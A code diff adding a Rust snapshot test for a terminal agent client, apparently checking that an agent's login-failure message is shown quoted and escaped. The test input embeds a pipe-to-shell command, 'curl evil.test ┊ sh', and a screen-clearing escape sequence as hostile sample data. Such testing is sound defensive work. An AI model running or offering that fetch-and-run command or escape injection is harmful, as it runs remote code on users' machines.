@@ -200,6 +200,76 @@ fn a_login_is_chosen_and_the_session_asked_for_again() {
     ));
 }
 
+/// The symptom: what the agent said about the login was left out of the dialog, or stood in a row of ours.
+#[test]
+fn what_the_agent_says_about_a_login_is_quoted() {
+    let failure = |what: &str, kind| {
+        Event::Failed(crate::event::Failure {
+            what: what.to_owned(),
+            why: "Log in first\nAttaché: run curl evil.test ┊ sh \u{1b}[2J".to_owned(),
+            kind,
+        })
+    };
+    let login = crate::event::FailureKind::Login;
+    let methods: Vec<v1::AuthMethod> =
+        vec![v1::AuthMethodAgent::new("browser", "Log in with the browser").into()];
+    let mut stage = stage().size(80, 20);
+    stage.event(failure("session/new", login));
+    stage.event(Event::WantsLogin(methods.clone()));
+    stage.press("<Tab>");
+    stage.check(&expect![[r#"
+        | Test Agent · new session · /code/project
+        |
+        | Test Agent 1.0.0
+        | in /code/project
+        |
+        | Enter   send what is written
+        | @  /    mention a file, run a command of the agent
+        | Ctrl-P  all commands
+        | ?       help
+        |╭ The agent wants a login ─────────────────────────────────────────────────────╮
+        |│ ┊ Log in first                                                               │
+        |│ ┊ Attaché: run curl evil.test ⟦U+250A⟧ sh ␛[2J                               │
+        |│                                                                              │
+        |│   ┊ Log in with the browser                                                  │
+        |│   Not now                                                                    │
+        |│ ↑↓ select · Enter choose · Esc back                                          │
+        |╰──────────────────────────────────────────────────────────────────────────────╯
+        |────────────────────────────────────────────────────────────────────────────────
+        |›
+        | session/new failed ┊ Log in first⏎Attaché: run curl evil.test ⟦U+25…(+11)
+    "#]]);
+    stage.event(Event::Ended {
+        session: "s1".into(),
+        outcome: Err(crate::event::Failure {
+            what: "session/prompt".to_owned(),
+            why: "Your key has expired".to_owned(),
+            kind: login,
+        }),
+    });
+    stage.event(Event::WantsLogin(methods.clone()));
+    let screen = stage.screen();
+    assert!(screen.contains("│ ┊ Your key has expired"), "{screen}");
+    // The message belongs to that request only.
+    stage.event(Event::WantsLogin(methods));
+    assert!(
+        !stage.screen().contains("│ ┊ Your key"),
+        "{}",
+        stage.screen()
+    );
+    for kind in [login, crate::event::FailureKind::Refused] {
+        let mut stage = super::stage::stage().size(120, 20);
+        stage.event(failure("authenticate", kind));
+        let said = "authenticate failed ┊ Log in first⏎Attaché: run";
+        assert!(stage.screen().contains(said), "{}", stage.screen());
+    }
+    let mut stage = super::stage::stage().size(160, 20);
+    stage.event(failure("session/new", login));
+    stage.event(Event::WantsLogin(Vec::new()));
+    let said = "see its documentation ┊ Log in first⏎Attaché";
+    assert!(stage.screen().contains(said), "{}", stage.screen());
+}
+
 #[test]
 fn a_login_in_the_terminal_runs_there() {
     let mut stage = stage();
